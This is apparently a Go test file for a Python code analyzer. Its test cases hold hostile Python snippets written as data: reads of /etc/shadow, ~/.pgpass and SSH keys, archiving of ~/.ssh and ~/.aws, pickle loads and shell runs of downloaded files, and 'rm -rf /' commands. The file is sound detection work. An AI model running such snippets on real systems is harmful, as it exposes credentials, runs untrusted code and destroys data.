package python

import (
	"strings"
	"testing"

	"github.com/toolwarden/toolwarden/sdk"
)

func hasFile(f *sdk.Facts, op, path string) bool {
	for _, x := range f.Files {
		if x.Op == op && x.Path == path && !x.Dynamic {
			return true
		}
	}
	return false
}

func hasNet(f *sdk.Facts, host string, listen bool) bool {
	for _, x := range f.Network {
		if x.Host == host && x.Listen == listen {
			return true
		}
	}
	return false
}

func downloadedExec(f *sdk.Facts) bool {
	for _, d := range f.DynamicExec {
		if d.Downloaded {
			return true
		}
	}
	return false
}

// TestValueFlowMechanisms: string and path values reach the API that uses
// them through getters, defaults, the working directory and normalized
// spellings.
func TestValueFlowMechanisms(t *testing.T) {
	for _, tc := range []struct{ name, src, op, path string }{
		{"property getter", "class S:\n    @property\n    def loc(self):\n        return '/etc/sudoers'\ns = S()\nopen(s.loc).read()", "read", "/etc/sudoers"},
		{"property over self attribute", "class S:\n    def __init__(self):\n        self.base = '/etc'\n    @property\n    def loc(self):\n        return self.base + '/gshadow'\nprint(open(S().loc).read())", "read", "/etc/gshadow"},
		{"default argument, no-argument call", "def rd(p='/etc/gshadow'):\n    return open(p).read()\nrd()", "read", "/etc/gshadow"},
		{"chdir then relative open", "import os\nos.chdir(os.path.expanduser('~'))\nopen('.pgpass').read()", "read", "~/.pgpass"},
		{"chdir twice", "import os\nos.chdir('/etc')\nos.chdir('ssh')\nopen('ssh_host_rsa_key').read()", "read", "/etc/ssh/ssh_host_rsa_key"},
		{"dotdot in a join", "import os\nopen(os.path.join('/tmp', '..', 'etc', 'gshadow')).read()", "read", "/etc/gshadow"},
		{"proc alias of any pid", "open('/proc/42/root/etc/gshadow').read()", "read", "/etc/gshadow"},
		{"other user's home", "import os\nopen(os.path.expanduser('~bob/x/../.pgpass')).read()", "read", "~bob/.pgpass"},
		{"HOME variable spelled", "import os\nopen(os.environ['HOME'] + '//.pgpass').read()", "read", "~/.pgpass"},
		{"configparser one file", "import configparser, os\nc = configparser.ConfigParser()\nc.read(os.path.expanduser('~/.pgpass'))", "read", "~/.pgpass"},
		{"configparser a list", "import configparser\nc = configparser.RawConfigParser()\nc.read(['a.ini', '/etc/gshadow'])", "read", "/etc/gshadow"},
		{"configparser aliased class", "from configparser import ConfigParser as P\nP().read('/root/.my.cnf')", "read", "/root/.my.cnf"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasFile(f, tc.op, tc.path) {
				t.Errorf("no %s of %s: %+v", tc.op, tc.path, f.Files)
			}
		})
	}
}

// TestDeserializedDownloads: pickle/marshal of downloaded bytes is
// downloaded code run, whichever way the bytes get there; of local data it
// is not.
func TestDeserializedDownloads(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      bool
	}{
		{"loads of a response", "import pickle, requests\nr = requests.get('https://x.example/a')\npickle.loads(r.content)", true},
		{"load of BytesIO", "import pickle, io, requests\npickle.load(io.BytesIO(requests.get('https://x.example/a').content))", true},
		{"saved then loaded", "import pickle, requests\nwith open('p.bin', 'wb') as fh:\n    fh.write(requests.get('https://x.example/a').content)\nwith open('p.bin', 'rb') as fh:\n    pickle.load(fh)", true},
		{"saved then loaded by another spelling", "import marshal, urllib.request as u\nopen('./c.bin', 'wb').write(u.urlopen('https://x.example/c').read())\nexec(marshal.load(open('c.bin', 'rb')))", true},
		{"local cache", "import pickle\npickle.load(open('cache.pkl', 'rb'))", false},
		{"round trip", "import pickle\npickle.loads(pickle.dumps([1, 2]))", false},
		{"json of a download", "import json, requests\njson.loads(requests.get('https://x.example/a').text)", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if got := downloadedExec(f); got != tc.want {
				t.Errorf("downloaded exec = %v, want %v: %+v", got, tc.want, f.DynamicExec)
			}
		})
	}
}

// TestListeningServers: every server class that binds an address is a
// listening socket on it.
func TestListeningServers(t *testing.T) {
	for _, tc := range []struct{ name, src, host string }{
		{"socketserver", "import socketserver\nsocketserver.ThreadingTCPServer(('0.0.0.0', 9001), None).serve_forever()", "0.0.0.0"},
		{"http.server every interface", "from http.server import ThreadingHTTPServer as S, BaseHTTPRequestHandler\nS(('', 8001), BaseHTTPRequestHandler).serve_forever()", ""},
		{"asyncio.start_server", "import asyncio\nasync def main():\n    await asyncio.start_server(None, '0.0.0.0', 8881)\nasyncio.run(main())", "0.0.0.0"},
		{"asyncio.start_server default host", "import asyncio\nasync def main():\n    await asyncio.start_server(None, port=8881)\nasyncio.run(main())", ""},
		{"socket.create_server", "import socket\nsocket.create_server(('::', 7001))", "::"},
		{"wsgiref", "from wsgiref.simple_server import make_server\nmake_server('', 8000, None).serve_forever()", ""},
		{"loopback server", "import socketserver\nsocketserver.TCPServer(('127.0.0.1', 9001), None)", "127.0.0.1"},
		{"flask on every interface", "from flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef index():\n    return 'hi'\napp.run(host='0.0.0.0', port=80)", "0.0.0.0"},
		{"flask default is loopback", "import flask\napp = flask.Flask('x')\napp.run()", "127.0.0.1"},
		{"uvicorn", "import uvicorn\nuvicorn.run('main:app', host='0.0.0.0', port=8000)", "0.0.0.0"},
		{"http.server.test", "import http.server as hs\nhs.test(port=9000)", ""},
		{"werkzeug", "from werkzeug.serving import run_simple\nrun_simple('0.0.0.0', 5000, None)", "0.0.0.0"},
		{"waitress default", "import waitress\nwaitress.serve(None)", "0.0.0.0"},
		{"tornado listen", "import tornado.web\napp = tornado.web.Application([])\napp.listen(8888)", ""},
		{"gevent", "from gevent.pywsgi import WSGIServer\nWSGIServer(('', 8000), None).serve_forever()", ""},
		{"multiprocessing listener", "from multiprocessing.connection import Listener\nListener(('0.0.0.0', 6000))", "0.0.0.0"},
		{"aiohttp TCPSite", "from aiohttp import web\nweb.TCPSite(None, port=8081)", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasNet(f, tc.host, true) {
				t.Errorf("no listening socket on %q: %+v", tc.host, f.Network)
			}
		})
	}
}

// TestProxiesAreDestinations: a proxy a request is routed through is a
// destination of its own.
func TestProxiesAreDestinations(t *testing.T) {
	for _, tc := range []struct{ name, src, host string }{
		{"ProxyHandler", "import urllib.request as u\no = u.build_opener(u.ProxyHandler({'https': 'http://198.51.100.3:3128'}))\no.open('https://github.com/')", "198.51.100.3"},
		{"requests proxies=", "import requests\nrequests.get('https://github.com/', proxies={'https': 'http://p.example:8080'})", "p.example"},
		{"httpx proxy=", "import httpx\nhttpx.Client(proxy='socks5://s.example:1080').get('https://github.com/')", "s.example"},
		{"environment, lower case, bare host", "import os, requests\nos.environ['https_proxy'] = '198.51.100.9:3128'\nrequests.get('https://github.com/')", "198.51.100.9"},
		{"urllib3 ProxyManager", "import urllib3\nurllib3.ProxyManager('http://q.example:3128').request('GET', 'https://github.com/')", "q.example"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasNet(f, tc.host, false) {
				t.Errorf("no destination %q: %+v", tc.host, f.Network)
			}
		})
	}
	f, _ := analyzeSrc("import os\nos.environ['NO_PROXY'] = 'internal.example'")
	for _, n := range f.Network {
		if strings.Contains(n.Host, "internal") {
			t.Errorf("NO_PROXY read as a destination: %+v", n)
		}
	}
}

// TestEnvironmentDumps: values of the whole environment reach an output as
// "*", the names alone (iterating os.environ or its keys) carry nothing, and
// a variable whose name cannot be known is "?", not the whole environment.
func TestEnvironmentDumps(t *testing.T) {
	outVars := func(f *sdk.Facts) []string {
		var v []string
		for _, o := range f.Outputs {
			v = append(v, o.Vars...)
		}
		return v
	}
	has := func(vs []string, x string) bool {
		for _, v := range vs {
			if v == x {
				return true
			}
		}
		return false
	}
	for _, tc := range []struct {
		name, src string
		whole     bool
	}{
		{"the mapping", "import os\nprint(os.environ)", true},
		{"a copy", "import os\nenv = os.environ.copy()\nprint(env)", true},
		{"values by key in a loop", "import os\nfor k in os.environ:\n    print(k, os.environ[k])", true},
		{"getenv over the keys", "import os\nfor n in os.environ.keys():\n    print(n, os.getenv(n))", true},
		{"items joined", "import os\nprint('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))", true},
		{"dict comprehension of values", "import os\nprint({k: os.environ[k] for k in os.environ})", true},
		{"names only", "import os\nprint(sorted(k for k in os.environ if k.startswith('LC_')))", false},
		{"names in a loop", "import os\nfor k in os.environ:\n    print(k)", false},
		{"unknown name", "import os, sys\nprint(os.environ.get(sys.argv[1]))", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if got := has(outVars(f), "*"); got != tc.whole {
				t.Errorf("whole environment output = %v, want %v: %+v", got, tc.whole, f.Outputs)
			}
		})
	}
}

// TestDownloadedFilesRun: a file the content saves a download to, by
// urlretrieve or by writing a response, is downloaded code when a process,
// runpy or a deserializer runs it later; other files are not.
func TestDownloadedFilesRun(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      bool
	}{
		{"urlretrieve then sh", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/x.sh', 'x.sh')\nsubprocess.run(['sh', 'x.sh'])", true},
		{"urlretrieve temp file", "import urllib.request, subprocess\npath, _ = urllib.request.urlretrieve('https://h.example/x.sh')\nsubprocess.run(['bash', path])", true},
		{"written response then os.system", "import requests, os\nwith open('t.sh', 'w') as f:\n    f.write(requests.get('https://h.example/t').text)\nos.system('bash t.sh')", true},
		{"downloaded binary run", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/t', 'tool')\nsubprocess.run(['./tool'])", true},
		{"runpy of a download", "import requests, runpy\nopen('b.py', 'w').write(requests.get('https://h.example/b.py').text)\nrunpy.run_path('b.py')", true},
		{"pickle of a saved download", "import urllib.request, pickle\nurllib.request.urlretrieve('https://h.example/m.pkl', 'm.pkl')\npickle.load(open('m.pkl', 'rb'))", true},
		{"download only listed", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/d.csv', 'd.csv')\nsubprocess.run(['wc', '-l', 'd.csv'])", false},
		{"another file run", "import urllib.request, subprocess\nurllib.request.urlretrieve('https://h.example/d.csv', 'd.csv')\nsubprocess.run(['sh', 'build.sh'])", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if got := downloadedExec(f); got != tc.want {
				t.Errorf("downloaded code run = %v, want %v: %+v", got, tc.want, f.DynamicExec)
			}
		})
	}
}

// TestFoldedPrivateKeys: a private-key header that exists only after the
// content's own expressions are folded is a private_key Secret; a
// certificate or public key header assembled the same way is not.
func TestFoldedPrivateKeys(t *testing.T) {
	for _, tc := range []struct {
		name, src string
		want      bool
	}{
		{"percent format", "k = '-----BEGIN %s PRIVATE KEY-----' % 'EC'", true},
		{"repeat and concat", "h = '-' * 5 + 'BEGIN OPENSSH PRIVATE KEY' + '-' * 5", true},
		{"join", "h = '-----'.join(['', 'BEGIN DSA PRIVATE KEY', ''])", true},
		{"f-string of constants", "b = '-----BEGIN'\ne = 'PRIVATE KEY-----'\nprint(f'{b} {e}')", true},
		{"format", "h = '-----BEGIN {} PRIVATE KEY-----'.format('RSA')", true},
		{"public key", "h = '-' * 5 + 'BEGIN PUBLIC KEY' + '-' * 5", false},
		{"certificate", "h = '-----BEGIN %s-----' % 'CERTIFICATE'", false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			got := false
			for _, s := range f.Secrets {
				got = got || s.Kind == "private_key"
			}
			if got != tc.want {
				t.Errorf("private key found = %v, want %v: %+v", got, tc.want, f.Secrets)
			}
		})
	}
}

// TestArchiveMembersAreRead: what goes into a tar or zip archive, or
// shutil.make_archive, is read.
func TestArchiveMembersAreRead(t *testing.T) {
	for _, tc := range []struct{ name, src, path string }{
		{"tar add", "import tarfile\nt = tarfile.open('b.tar', 'w')\nt.add('/etc/shadow')", "/etc/shadow"},
		{"tar add in with", "import os, tarfile\nwith tarfile.open('b.tgz', 'w:gz') as t:\n    t.add(os.path.expanduser('~/.ssh'))", "~/.ssh"},
		{"zip write", "import os, zipfile\nwith zipfile.ZipFile('b.zip', 'w') as z:\n    z.write(os.path.expanduser('~/.netrc'))", "~/.netrc"},
		{"make_archive root", "import shutil\nshutil.make_archive('build/k', 'zip', root_dir='/root')", "/root"},
		{"make_archive root and base", "import os, shutil\nshutil.make_archive('b', 'gztar', root_dir=os.path.expanduser('~'), base_dir='.aws')", "~/.aws"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, _ := analyzeSrc(tc.src)
			if !hasFile(f, "read", tc.path) {
				t.Errorf("no read of %s: %+v", tc.path, f.Files)
			}
		})
	}
}

// TestGeneratorsAndOr: values a generator yields reach the loop over it,
// and an `or` of unknown truth is judged as the side that names a module.
func TestGeneratorsAndOr(t *testing.T) {
	cmds := func(f *sdk.Facts) []string {
		var out []string
		for _, c := range f.Commands {
			out = append(out, c.Evidence)
		}
		return out
	}
	for _, tc := range []struct{ name, src, want string }{
		{"yield", "def gen():\n    yield 'rm -rf /'\n\nimport os\nfor c in gen():\n    os.system(c)", "rm -rf /"},
		{"yield from", "def gen():\n    yield from ['ls', 'rm -rf ~']\n\nimport os\nfor c in gen():\n    os.system(c)", "rm -rf ~"},
		{"or fallback import", "import sys\nm = sys.modules.get('subprocess') or __import__('subprocess')\nm.run('rm -rf /', shell=True)", "rm -rf /"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f, fb := analyzeSrc(tc.src)
			found := false
			for _, g := range fb.got {
				found = found || g.src == tc.want
			}
			if !found {
				t.Errorf("command %q not analyzed: %v %v", tc.want, fb.got, cmds(f))
			}
		})
	}
}
